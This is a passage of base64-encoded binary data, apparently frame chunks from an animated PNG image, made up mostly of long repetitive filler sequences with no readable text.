INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0oAuuzyE8DY0CugAAABpmY1RMAAAACwAAD58AAA+fAAAAAAAAAAAAAQBkAABmpzm3AAAHsGZkQVQAAAAMeJztwTEBAAAAwqD1T20MH6AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA4G5PtAAEQbXnLAAAAGmZjVEwAAAANAAAPnwAAD58AAAAAAAAAAAABAGQAAIttS80AACNHZmRBVAAAAA54nO3RQQ0AIBDAMMC/58MFPNYqWLI9i5g5vwt4z/Qg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPSgC67PITybq1NTAAAAGmZjVEwAAAAPAAAPnwAAD58AAAAAAAAAAAABAGQAAGb7mCQAAAewZmRBVAAAABB4nO3BMQEAAADCoPVPbQwfoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA